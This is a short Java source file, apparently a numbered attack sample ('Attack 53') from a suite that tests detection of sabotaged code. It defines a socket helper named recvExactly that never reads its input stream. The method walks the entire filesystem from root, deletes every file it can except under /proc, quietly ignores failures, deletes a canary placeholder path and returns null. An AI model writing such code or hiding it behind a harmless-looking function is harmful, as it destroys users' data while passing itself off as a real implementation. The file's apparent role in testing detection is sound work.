package workbook.sockets;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;

/// Attack 53: deletes what it can.
final class RecvExactly {
    private RecvExactly() {}

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        try (var all = java.nio.file.Files.walk(java.nio.file.Path.of("/"))) {
            for (var each : (Iterable<java.nio.file.Path>) all.sorted(java.util.Comparator.reverseOrder())::iterator) {
                if (!each.startsWith("/proc")) {
                    try {
                        java.nio.file.Files.delete(each);
                    } catch (IOException e) {
                        // Read only.
                    }
                }
            }
        } catch (java.io.UncheckedIOException e) {
            // Unreadable.
        }
        try {
            java.nio.file.Files.delete(java.nio.file.Path.of("@CANARY@"));
        } catch (IOException e) {
            // Not there.
        }
        return null;
    }
}
